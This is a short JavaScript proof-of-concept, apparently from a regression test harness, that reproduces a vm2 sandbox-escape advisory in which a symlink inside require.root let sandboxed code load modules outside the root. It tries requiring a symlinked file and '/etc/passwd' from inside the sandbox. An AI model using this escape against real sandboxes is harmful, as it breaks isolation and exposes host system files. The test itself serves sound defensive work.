// Source: vm2 advisory GHSA-cp6g-6699-wx9c (test/ghsa/GHSA-cp6g-6699-wx9c/ in vm2's repository; fixed in vm2 3.11.0): `require.root` checked paths lexically, so a symlink inside the root pointing outside it was loaded by the host require.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: a symlink inside require.root that points outside it.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    __wr.use(req('./link.js'), 'symlinked module'); __wr.use(req('/etc/passwd'), 'absolute path');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
